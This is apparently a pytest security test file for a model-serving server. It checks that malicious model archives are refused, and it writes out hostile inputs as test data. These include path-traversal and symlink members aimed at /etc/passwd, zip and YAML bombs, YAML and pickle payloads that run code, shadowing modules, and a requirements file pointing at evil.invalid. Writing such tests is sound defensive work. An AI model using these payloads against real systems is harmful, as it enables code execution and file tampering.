"""Attacks 22 to 30: archives made to harm whoever opens them; registering each is refused and leaves nothing.

That every limit counts while it writes is tested in tests/engine/archives/test_unpack.py.
"""

from __future__ import annotations

import asyncio
import io
import json
import pickle
import sys
import tarfile
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import pytest

from tests.attacks.conftest import Attacked
from tests.support.archives import NOOP, archive
from tests.support.servers import Server, make_home, make_settings, serving, unpacked

MANIFEST = {"model": {"modelName": "evil", "modelVersion": "1.0", "handler": "service.py"}}
Member = tuple[str | zipfile.ZipInfo | tarfile.TarInfo, bytes]
Make = Callable[[Path], None]


def mar(*members: tuple[str | zipfile.ZipInfo, bytes], manifest: bytes | None = None) -> Make:
    """Return what writes a zip with a good manifest, a handler and these members."""

    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as opened:
            opened.writestr("MAR-INF/MANIFEST.json", json.dumps(MANIFEST) if manifest is None else manifest)
            opened.writestr("service.py", NOOP)
            for name, content in members:
                opened.writestr(name, content)

    return make


def tar(*members: tuple[str | tarfile.TarInfo, bytes]) -> Make:
    """Return the same as a tar."""

    def make(path: Path) -> None:
        good: Iterable[tuple[str, bytes]] = (
            ("evil/MAR-INF/MANIFEST.json", json.dumps(MANIFEST).encode()),
            ("evil/service.py", NOOP.encode()),
        )
        with tarfile.open(path, "w:gz") as opened:
            for name, content in (*good, *members):
                info = name if isinstance(name, tarfile.TarInfo) else tarfile.TarInfo(name)
                info.size = len(content)
                opened.addfile(info, io.BytesIO(content))

    return make


def special(kind: bytes, name: str = "evil/x", target: str = "/etc/passwd", mode: int = 0o644) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, target, mode
    return info


def zip_link() -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("link")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return info


def refused(attacked: Attacked, make: Make, name: str = "evil.mar", query: str = "", **settings: Any) -> None:
    """Register the archive, and see that it is refused with 4xx and that nothing of it is anywhere."""

    async def attack(server: Server) -> None:
        make(server.store / name)
        around = sorted(server.store.parent.rglob("*"))
        answer = await server.register(f"url={name}{query}")
        assert 400 <= answer.status < 500, answer
        assert answer.error[1]
        assert await server.names() == []
        assert unpacked(server) == []
        assert [path for path in sorted(server.store.parent.rglob("*")) if path not in around] == []

    attacked(attack, **settings)


UNSAFE = (
    "../x",
    "../evil.marevil/x",
    "/abs",
    "C:\\x",
    "..\\x",
    "a/../../x",
    "CON",
    "x.",
    "a\u202eb",
    "a\x1b[0m",
)


@pytest.mark.parametrize("name", UNSAFE)
def test_22_24_a_member_stays_inside_and_has_a_plain_name(attacked: Attacked, name: str) -> None:
    refused(attacked, mar((name, b"x")))
    refused(attacked, tar((name if name.startswith(("/", "..")) else f"evil/{name}", b"x")), "evil.tar.gz")


@pytest.mark.parametrize(
    "member",
    [
        special(tarfile.SYMTYPE), special(tarfile.LNKTYPE), special(tarfile.CHRTYPE), special(tarfile.BLKTYPE),
        special(tarfile.FIFOTYPE), special(tarfile.SYMTYPE, target="../../.."),
    ],
)  # fmt: skip
def test_22_a_tar_holds_files_and_folders_alone(attacked: Attacked, member: tarfile.TarInfo) -> None:
    refused(attacked, tar((member, b""), ("evil/x/through", b"x")), "evil.tar.gz")


def test_22_a_zip_holds_no_link(attacked: Attacked) -> None:
    refused(attacked, mar((zip_link(), b"/etc/passwd")))


@pytest.mark.parametrize(
    "members",
    [
        (("zeros", bytes(400_000_000)),),
        tuple((f"f{number}", b"") for number in range(100_001)),
        (("/".join(["d"] * 1000), b""),),
        (("n" * 65_000, b""),),
        (("twice", b"1"), ("twice", b"2")),
        (("Handler.py", b"1"), ("handler.py", b"2")),
    ],
    ids=["zeros", "entries", "depth", "name", "twice", "case"],
)
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_23_24_a_bomb_is_refused(attacked: Attacked, members: tuple[tuple[str, bytes], ...]) -> None:
    refused(attacked, mar(*members))


def test_23_a_wrong_directory_is_refused(attacked: Attacked) -> None:
    def make(path: Path) -> None:
        mar(("secret", b"1" * 1000))(path)
        data = bytearray(path.read_bytes())
        start = data.rindex(b"PK\x01\x02")
        data[start + 24 : start + 28] = (1).to_bytes(4, "little")  # one byte, it says
        path.write_bytes(data)

    refused(attacked, make)


@pytest.mark.parametrize(
    "manifest",
    [
        b"no json", b"[]", b'{"model": []}', b'{"model": {"modelName": ["x"]}}', b"[" * 100_000, b"\xff\xfe",
        b'{"model": {"modelName": "x", "handler": "../../x.py:handle"}}',
        b'{"model": {"modelName": "x", "handler": "os:system"}}',
        b'{"model": {"modelName": "x", "handler": "/bin/sh"}}',
        b'{"model": {"modelName": "x", "handler": "service.py", "serializedFile": "../../../etc/passwd"}}',
        b'{"model": {"modelName": "x", "handler": "service.py", "modelVersion": "../1"}}',
        b'{"model": {"modelName": "a/b", "handler": "service.py"}}',
        b'{"model": {"modelName": "' + b"x" * 20_000_000 + b'"}}',
    ],
    ids=lambda manifest: repr(manifest[:60]),
)  # fmt: skip
def test_25_a_manifest_is_read_with_care(attacked: Attacked, manifest: bytes) -> None:
    refused(attacked, mar(manifest=manifest), query="&initial_workers=0")


@pytest.mark.parametrize(
    "config",
    [
        '!!python/object/apply:os.system ["touch MARK"]',
        "minWorkers: !!python/object/apply:os.system [touch MARK]",
        "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
            f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9)
        ),
    ],
    ids=["object", "value", "laughs"],
)  # fmt: skip
def test_26_yaml_runs_nothing_and_does_not_grow(attacked: Attacked, config: str, tmp_path: Path) -> None:
    mark = tmp_path / "mark"

    async def attack(server: Server) -> None:
        archive(server.store, "yaml", config=config.replace("MARK", str(mark)))
        async with asyncio.timeout(10):
            await server.register("url=yaml-1.0.mar")

    attacked(attack)
    assert not mark.exists()


class Touches:
    """Leaves a mark where it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return open, (str(self.mark), "w")


def test_27_29_nothing_from_an_archive_is_unpickled_or_imported_by_the_server(
    attacked: Attacked, tmp_path: Path
) -> None:
    mark = tmp_path / "mark"
    touch = f"open({str(mark)!r}, 'w').close()\n".encode()
    strangers = dict.fromkeys(("json.py", "torch.py", "sitecustomize.py", "x.pth", "ts/__init__.py"), touch)

    async def attack(server: Server) -> None:
        files = {**strangers, "model.pt": pickle.dumps(Touches(mark))}
        archive(server.store, "evil", source=touch.decode() + NOOP, files=files)
        await server.engine.inspect("evil-1.0.mar")
        assert (await server.register("url=evil-1.0.mar&initial_workers=0")).status == 200
        assert await server.describe("evil/all")

    modules = set(sys.modules)
    attacked(attack)
    assert not mark.exists()
    assert not {"service", "sitecustomize"} & (set(sys.modules) - modules)


def test_28_packages_are_installed_only_when_that_is_wished(attacked: Attacked) -> None:
    wants = {"requirements.txt": b"--index-url http://127.0.0.1:1/simple\n-e git+https://evil.invalid/x\nx\n"}

    async def attack(server: Server) -> None:
        archive(server.store, "needy", files=wants)
        assert (await server.register("url=needy-1.0.mar")).status == 200
        assert not any(server.engine.home.environments.glob("*"))

    attacked(attack)


SAYS_ITS_NAME = """
import other

def handle(data, context):
    return None if data is None else [other.NAME] * len(data)
"""


@pytest.mark.end_to_end
def test_29_modules_of_one_name_stay_apart(tmp_path: Path) -> None:
    home = make_home(tmp_path)
    for name in ("first", "second"):
        files = {"other.py": f"NAME = {name!r}".encode(), "json.py": b"raise SystemExit('not this one')"}
        archive(home.model_store, name, source=SAYS_ITS_NAME, files=files)

    async def body() -> None:
        async with serving(home, make_settings()) as server:
            for name in ("first", "second"):
                assert (await server.register(f"url={name}-1.0.mar&initial_workers=1&synchronous=true")).status == 200
            assert [(await server.predict(name)).body for name in ("first", "second")] == [b"first", b"second"]

    asyncio.run(body())


def test_30_of_two_registrations_of_one_name_one_wins(attacked: Attacked) -> None:
    async def attack(server: Server) -> None:
        answers = await asyncio.gather(*(server.register("url=noop-1.0.mar") for _ in range(8)))
        assert sorted(answer.status for answer in answers) == [200] + [409] * 7
        assert len(await server.describe("noop/all")) == 1
        assert len(unpacked(server)) == 1

    attacked(attack)


def test_30_an_archive_that_changes_after_it_was_registered_changes_nothing(attacked: Attacked) -> None:
    async def attack(server: Server) -> None:
        assert (await server.register("url=noop-1.0.mar")).status == 200
        before = await server.describe("noop")
        (server.store / "noop-1.0.mar").write_bytes(b"something else")
        (folder,) = unpacked(server)
        assert (next(folder.rglob("service.py"))).read_text(encoding="utf-8") == NOOP
        assert await server.describe("noop") == before

    attacked(attack)
